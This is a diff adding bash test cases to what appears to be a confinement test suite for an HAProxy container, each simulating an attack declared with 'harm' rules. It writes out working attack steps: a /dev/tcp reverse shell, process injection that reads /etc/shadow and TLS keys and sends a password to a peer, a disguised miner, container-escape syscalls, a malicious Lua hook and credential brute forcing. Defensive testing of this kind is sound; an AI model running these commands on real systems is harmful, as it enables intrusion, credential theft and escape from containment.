@@ -314,3 +314,168 @@ rare_server_added() {
 worker_process() {
 	tasks_named haproxy haproxy | grep -vx "${container_pid[haproxy]}" | sort -n | tail -n 1
 }
+
+# code_in_master EXPRESSION…: code inside the master, which is root and sees all files.
+code_in_master() {
+	inject_pid "${container_pid[haproxy]}" "$@"
+}
+
+# master_shell COMMANDS: a shell that code inside the master starts.
+master_shell() {
+	code_in_master "call (int) system(\"${1//$'\n'/ }\")"
+}
+
+attack_code_shell() {
+	harm exec /usr/bin/dash
+	harm exec /usr/bin/id
+	harm read /etc/haproxy/maps/hosts.map
+	harm write /tmp/out
+	master_shell 'id >/tmp/out; cat /etc/haproxy/tls/service.pem /etc/haproxy/maps/hosts.map >>/tmp/out'
+	grep -q uid=0 "$(image_path haproxy /tmp/out)" && grep -q 'PRIVATE KEY' "$(image_path haproxy /tmp/out)"
+}
+
+attack_reverse_shell() {
+	harm exec /usr/bin/bash
+	harm connect "$peer_address:4444"
+	thief_shell 'id; cat /etc/haproxy/haproxy.cfg; env; exit'
+	master_shell "bash -c 'exec bash -i >/dev/tcp/$peer_address/4444 2>&1 <&1'"
+	thief_got figures-secret
+}
+
+# Code inside the master reads what only root may, and starts no program.
+attack_code_shadow() {
+	harm read /etc/shadow
+	code_in_master 'print (int) open("/etc/shadow", 0)' | grep -qE '= [0-9]+'
+}
+
+# Code inside a worker, which has an empty directory for its root, sends a password away that its memory holds.
+attack_code_connect() {
+	harm connect "$peer_address:4444"
+	thief_begin
+	# shellcheck disable=SC2016 # the debugger's variables
+	inject_pid "$(worker_process)" 'set $a = (char *) calloc(1, 64)' 'set {long} $a = 0x0100580a5c110002' \
+		'set $s = (int) socket(2, 1, 0)' 'print (long) syscall(42, $s, $a, 16)' \
+		'set $p = (char *) getenv("STATS_PASSWORD")' 'print (long) write($s, $p, (long) strlen($p))' \
+		'print (int) close($s)'
+	thief_got figures-secret
+}
+
+attack_miner() {
+	harm exec /tmp/.kworkerd
+	harm connect "$peer_address:3333"
+	armoury_begin
+	master_shell "$(miner_commands /tmp/.kworkerd)"
+	pool_got
+}
+
+attack_scan() {
+	harm exec /usr/bin/bash
+	harm connect "$peer_address:22"
+	# shellcheck disable=SC2016 # the container's shell
+	master_shell "bash -c 'for p in 21 22 23 25 53 80 443 3306 5432 6379 7000 8001 8080 {9000..9100}; do
+		(exec 3<>/dev/tcp/$peer_address/\$p) && echo \$p; done >/tmp/open 2>/dev/null'"
+	grep -qx 7000 "$(image_path haproxy /tmp/open)"
+}
+
+# Ways out of a container, each tried by code inside the master.
+attack_escape() {
+	harm call mount
+	harm call unshare
+	harm call setns
+	harm call mknodat
+	harm call ptrace
+	code_in_master 'print (int) mount("none", "/mnt", "tmpfs", 0, 0)' \
+		'print (int) unshare(0x10000000)' 'print (int) setns(0, 0)' \
+		'print (int) mknod("/tmp/disk", 0060600, 0x800)' 'print (long) ptrace(16, 2, 0, 0)' \
+		'print (int) open("/proc/sys/kernel/core_pattern", 1)' \
+		'print (int) open("/sys/fs/cgroup/release_agent", 1)' | grep -q = &&
+		alive "${container_pid[haproxy]}"
+}
+
+# By the open runtime socket: what the staff send goes to the thief's server, passwords too.
+attack_server_replaced() {
+	harm connect "$peer_address:6666"
+	peer_start thief socat -u "TCP-LISTEN:6666,bind=$peer_address,reuseaddr,fork" STDOUT
+	until_true "$patience" port_listens 6666
+	runtime "set server admin/office addr $peer_address port 6666"
+	fetch /admin/page1 -u ann:summer --max-time 2 -o /dev/null || true
+	thief_got "Basic $(printf ann:summer | base64)"
+}
+
+# Lua of the thief's: it runs at the next reload, as root.
+attack_lua_replaced() {
+	harm write /etc/haproxy/lua/edge.lua
+	harm read /etc/shadow
+	harm connect "$peer_address:4444"
+	thief_begin
+	echo "os.execute(\"bash -c 'cat /etc/shadow >/dev/tcp/$peer_address/4444'\")" >"$(image_path haproxy /tmp/more.lua)"
+	master_shell 'cat /tmp/more.lua >>/etc/haproxy/lua/edge.lua; (sleep 2; kill -USR2 1) &'
+	thief_got '^root:'
+}
+
+# A port more, which leads to a port of the network behind.
+attack_tunnel() {
+	harm write /etc/haproxy/haproxy.cfg
+	harm bind 0.0.0.0:4445
+	harm connect "$peer_address:4444"
+	thief_begin
+	printf 'listen more\n\tbind :4445\n\tmode tcp\n\tserver more %s:4444\n' "$peer_address" \
+		>"$(image_path haproxy /tmp/more.cfg)"
+	master_shell 'cat /tmp/more.cfg >>/etc/haproxy/haproxy.cfg; (sleep 2; kill -USR2 1) &'
+	until_true 20 port_listens 4445
+	echo through-the-proxy | client_stdin socat -t 1 - "TCP:$own_address:4445"
+	thief_got through-the-proxy
+}
+
+attack_brute_force() {
+	local p
+	harm connect "$peer_address:8007"
+	for p in 123456 password qwerty letmein {1..30} football iloveyou monkey dragon; do
+		! fetch /admin/page7 -f -u "bob:$p" -o /dev/null || return 0
+	done
+	return 1
+}
+
+# ---- adaptive: known calls, files and peers only ----
+
+# What is refused by the beginning of its path, by other beginnings.
+adaptive_internal_records() {
+	local n
+	harm connect "$peer_address:800[12]"
+	! fetch /internal/record1 | grep -q card
+	for n in $(seq 40); do
+		fetch "$(pick //internal /./internal /page/../internal)/record$n" --path-as-is
+	done | grep -c card | grep -qx 40
+}
+
+# By the open runtime socket: visitors of one site get another server of the house.
+adaptive_visitors_diverted() {
+	harm connect "$peer_address:8004"
+	runtime 'show map /etc/haproxy/maps/hosts.map; show table account; show servers state'
+	runtime 'set map /etc/haproxy/maps/hosts.map service.example staging'
+	fetch '/diverted[1-20]' -H 'Host: service.example' -o /dev/null
+	until_true 10 grep -q '8004 /diverted20' "$stage/peer-staging.log"
+}
+
+# All servers of the site are taken out of service.
+adaptive_out_of_service() {
+	harm connect "$peer_address:8005"
+	runtime 'set server site/web1 state maint; set server site/web2 state maint; set server api/api1 state maint;
+set server api/api2 state maint; shutdown sessions server site/web1'
+	sleep 1
+	fetch '/gone[1-20]' -o /dev/null
+	until_true 10 grep -q '8005 /gone20' "$stage/peer-staging.log"
+	! fetch /api/items3 -f -o /dev/null
+}
+
+# Code inside a worker sends a password to a server of the site, by calls that every worker makes.
+adaptive_upstream() {
+	harm connect "$peer_address:8001"
+	# shellcheck disable=SC2016 # the debugger's variables
+	inject_pid "$(worker_process)" 'set $a = (char *) calloc(1, 512)' 'set {long} $a = 0x0100580a411f0002' \
+		'set $p = (char *) getenv("STATS_PASSWORD")' 'call (void *) memcpy($a + 32, "GET /stolen-", 12)' \
+		'call (void *) memcpy($a + 44, $p, 14)' 'call (void *) memcpy($a + 58, " HTTP/1.0\r\n\r\n", 13)' \
+		'set $s = (int) socket(2, 1, 0)' 'print (long) syscall(42, $s, $a, 16)' \
+		'print (long) syscall(44, $s, $a + 32, 71, 0, 0, 0)' 'print (int) close($s)'
+	until_true 10 grep -q stolen-figures-secret "$stage/peer-site.log"
+}
